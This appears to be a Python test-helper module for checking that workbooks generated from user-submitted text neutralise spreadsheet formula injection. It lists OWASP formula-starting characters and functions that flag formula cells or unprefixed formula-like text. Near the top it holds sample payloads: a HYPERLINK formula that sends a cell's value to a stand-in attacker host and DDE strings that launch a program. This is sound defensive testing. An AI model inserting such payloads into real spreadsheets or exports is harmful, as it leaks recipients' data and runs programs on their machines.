"""Texts a unit (or anyone who mails the desk) may write that a spreadsheet would run, and the
check that a workbook the desk wrote shows each of them as the text it is.

The starts are OWASP's CSV/formula injection list, kept here on its own (not imported from
intake.sheet_cells), so a guard that forgets one is caught rather than agreed with.
"""

from __future__ import annotations

import io
from collections.abc import Iterable

from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&B2,"点击查看")'  # sends a cell's value away
DDE = "=cmd|' /C calc'!A0"  # starts a program (DDE)
HOSTILE = (
    HYPERLINK,
    DDE,
    "+86 请电话联系",
    "-5",  # what a unit wrote: text, even if it looks like a number
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '\r=HYPERLINK("http://attacker.example/")',
    "\n-2+3",
)
BELL = "王\x07芳"  # a control character XML cannot hold (an old .xls cell may carry one)
BELL_SHOWN = "王\u2407芳"  # how the desk writes it: the control's visible picture


def workbook_cells(data: bytes) -> list[Cell]:
    """Every cell of every sheet of an .xlsx, as the office's spreadsheet reads the file."""
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def formula_problems(data: bytes, expected: Iterable[str] = ()) -> list[str]:
    """What is wrong with a written workbook, in words (empty: nothing): any formula cell, any text
    that starts like a formula without Excel's quote prefix (it would run once the clerk edits
    it), and any of `expected` that is not there, exactly as written, as a text cell."""
    problems: list[str] = []
    texts: set[str] = set()
    for cell in workbook_cells(data):
        where = f"{cell.parent.title}!{cell.coordinate}"
        if cell.data_type == "f":
            problems.append(f"{where} is a formula: {cell.value!r}")
        elif isinstance(cell.value, str):
            texts.add(cell.value)
            if cell.value.startswith(OWASP_STARTS) and not cell.quotePrefix:
                problems.append(f"{where} starts like a formula without the quote prefix: {cell.value!r}")
    problems += [f"{value!r} is not in the workbook as text" for value in expected if value not in texts]
    return problems


def column_values(data: bytes, sheet: str, header: str, header_row: int = 1) -> list[object]:
    """The values under `header` on `sheet`, below the header row (empty rows left out)."""
    ws = load_workbook(io.BytesIO(data))[sheet]
    names = [c.value for c in ws[header_row]]
    index = names.index(header)
    return [row[index].value for row in ws.iter_rows(min_row=header_row + 1) if any(c.value for c in row)]
